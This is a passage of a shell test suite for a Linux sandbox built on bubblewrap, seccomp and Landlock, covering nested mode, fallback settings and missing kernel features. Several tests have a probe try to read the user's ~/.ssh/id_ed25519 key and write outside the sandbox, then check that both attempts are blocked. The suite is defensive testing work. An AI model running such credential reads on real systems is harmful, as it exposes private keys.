nx -q -- sh -c 'setsid sleep 300 </dev/null >/dev/null 2>&1 & echo $! > pid; sleep 0.2'
pid=$(cat pid 2>/dev/null)
sleep 0.3
if [ -n "$pid" ] && ! kill -0 "$pid" 2>/dev/null; then ok
else bad "pid=$pid still there"; kill "$pid" 2>/dev/null; fi

t seccomp_table_holds_new_user_namespace_refused
nini
nx -q -- unshare -U true
if [ $RC -ne 0 ] && has "Operation not permitted" err; then ok; else bad "rc=$RC"; fi

# ---- no user namespaces: bubblewrap cannot make the sandbox

# box ARGS: sbx-preload where bubblewrap cannot make namespaces (inside a
# user namespace that may not have another one)
box() {
	timeout 60 bwrap --unshare-user --disable-userns --dev-bind / / -- "$SBX" "$@" \
		>"$B/out" 2>"$B/err"
	RC=$?
}
if ! bwrap --unshare-user --disable-userns --dev-bind / / -- true 2>/dev/null; then
	for n in fallback_warn_gets_the_nested_mode fallback_error_refuses_and_names_nested \
		 nested_true_runs_without_user_namespaces; do
		t "$n"; skip "bwrap --disable-userns is not available here"
	done
else

t fallback_warn_gets_the_nested_mode
printf '[sandbox]\nfallback = warn\n' > "$B/w.ini"
# (and COMMAND's ignored signals are the caller's, SIGPIPE's among them,
# though sbx-preload started itself again)
# (the caller is box()'s chain, timeout and bubblewrap: what they give
# a program, not this shell's own, which a run under nohup or from a job
# started with & differs from)
host_ign=$(timeout 60 bwrap --unshare-user --disable-userns --dev-bind / / -- grep SigIgn /proc/self/status)
box -c "$B/w.ini" --no-shim -- sh -c "$P read $HOME/.ssh/id_ed25519; $P write $B/outside.txt x; grep SigIgn /proc/self/status"
if ! grep -q "$SECRET" "$B/out" && [ ! -e "$B/outside.txt" ] && grep -qx "$host_ign" "$B/out" &&
   has "starting again in the nested mode" err &&
   has "nested mode (bubblewrap cannot make namespaces here; fallback = warn)" err &&
   ! has "WITHOUT a sandbox" err; then ok
else bad "rc=$RC out=$(cat "$B/out")"; fi

t fallback_error_refuses_and_names_nested
printf '[sandbox]\nfallback = error\n' > "$B/e.ini"
box -c "$B/e.ini" -- sh -c "echo ran > $W/ran"
if [ $RC -eq 125 ] && [ ! -e "$W/ran" ] && has "nested = true in \[sandbox\]" err; then ok
else bad "rc=$RC"; fi

t nested_true_runs_without_user_namespaces
nini
box -c "$B/n.ini" --no-shim -- sh -c "$P read $HOME/.ssh/id_ed25519; $P write $W/in.txt yes; $P write $B/outside.txt x"
if ! grep -q "$SECRET" "$B/out" && [ ! -e "$B/outside.txt" ] && [ "$(cat "$W/in.txt")" = yes ] &&
   [ $RC -eq 1 ]; then ok
else bad "rc=$RC out=$(cat "$B/out")"; fi

t nested_runs_with_a_containers_dev_where_ptmx_is_a_link
# Docker's and podman's /dev (and bubblewrap's --dev) make /dev/ptmx a
# link to pts/ptmx: the run once stopped at it ("listing the directories
# for the Landlock rules: Symbolic link loop") in every container. (No
# new pty inside in this mode, by design: docs/SECURITY.md.)
nini
timeout 60 bwrap --unshare-user --disable-userns --dev-bind / / --dev /dev -- "$SBX" -c "$B/n.ini" \
	--no-shim -- sh -c "$P read $HOME/.ssh/id_ed25519; $P write $W/in.txt yes; $P write $B/outside.txt x; echo ran" \
	>"$B/out" 2>"$B/err"
RC=$?
if [ -L /dev/ptmx ] || bwrap --dev-bind / / --dev /dev -- test -L /dev/ptmx; then
	if ! grep -q "$SECRET" "$B/out" && [ ! -e "$B/outside.txt" ] && [ "$(cat "$W/in.txt")" = yes ] &&
	   grep -qx ran "$B/out" && [ $RC -eq 0 ]; then ok
	else bad "rc=$RC out=$(cat "$B/out")"; fi
else skip "bubblewrap's --dev makes no /dev/ptmx link here"; fi
fi

# ---- fail closed: no Landlock

t no_landlock_refuses_125_or_warns
# a seccomp filter (bubblewrap's --seccomp) that answers ENOSYS for
# landlock_create_ruleset, as a kernel without Landlock does
cat > "$PROGS/nolandlock.c" <<'EOF'
#include <seccomp.h>
#include <stdio.h>
#include <errno.h>
int main(void)
{
	scmp_filter_ctx c = seccomp_init(SCMP_ACT_ALLOW);
	if (!c || seccomp_rule_add(c, SCMP_ACT_ERRNO(ENOSYS), SCMP_SYS(landlock_create_ruleset), 0) ||
	    seccomp_export_bpf(c, 1))
		return 1;
	return 0;
}
EOF
if ! cc -o "$PROGS/nolandlock" "$PROGS/nolandlock.c" -lseccomp 2>/dev/null ||
   ! "$PROGS/nolandlock" > "$PROGS/nolandlock.bpf"; then skip "cannot build a filter with libseccomp"
else
	nini
	timeout 60 bwrap --dev-bind / / --seccomp 9 -- "$SBX" -c "$B/n.ini" -- sh -c "echo ran > $W/ran" \
		9<"$PROGS/nolandlock.bpf" >"$B/out" 2>"$B/err"
	r1=$? e1=$(cat "$B/err")
	printf '[sandbox]\nnested = true\nfallback = warn\n' > "$B/n.ini"
	timeout 60 bwrap --dev-bind / / --seccomp 9 -- "$SBX" -c "$B/n.ini" -- sh -c "echo ran > $W/ran2" \
		9<"$PROGS/nolandlock.bpf" >"$B/out" 2>"$B/err"
	if [ $r1 -eq 125 ] && [ ! -e "$W/ran" ] && echo "$e1" | grep -q "has no Landlock" &&
	   [ -e "$W/ran2" ] && has "WITHOUT a sandbox (the nested mode cannot run" err; then ok
	else bad "r1=$r1 e1=$e1"; fi
fi

# ---- user namespaces off for the whole machine (root only, seconds)

t sysctl_no_user_namespaces_still_blocks_canary_read_and_write
if [ "$(id -u)" -ne 0 ] || [ ! -w /proc/sys/user/max_user_namespaces ]; then
	skip "cannot set user.max_user_namespaces here (root with write access to /proc/sys is needed); the bwrap --disable-userns tests above stand in"
else
	printf '[sandbox]\nfallback = warn\n' > "$B/w.ini"
	old=$(cat /proc/sys/user/max_user_namespaces)
	# other runs on this machine share the setting: put back on any exit
	trap 'echo "$old" > /proc/sys/user/max_user_namespaces; cleanup' EXIT
	echo 0 > /proc/sys/user/max_user_namespaces
	timeout 60 "$SBX" -c "$B/w.ini" --no-shim -- sh -c "$P read $HOME/.ssh/id_ed25519; $P write $B/outside.txt x; $P write $W/in.txt yes" \
		>"$B/out" 2>"$B/err"
	RC=$?
	echo "$old" > /proc/sys/user/max_user_namespaces
	trap cleanup EXIT
	if ! grep -q "$SECRET" "$B/out" && [ ! -e "$B/outside.txt" ] && [ "$(cat "$W/in.txt" 2>/dev/null)" = yes ] &&
	   has "nested mode (bubblewrap cannot make namespaces here; fallback = warn)" err; then ok
	else bad "rc=$RC out=$(cat "$B/out")"; fi
fi

echo "# nested: $pass passed, $fail failed, $skip skipped"
[ "$fail" -eq 0 ]
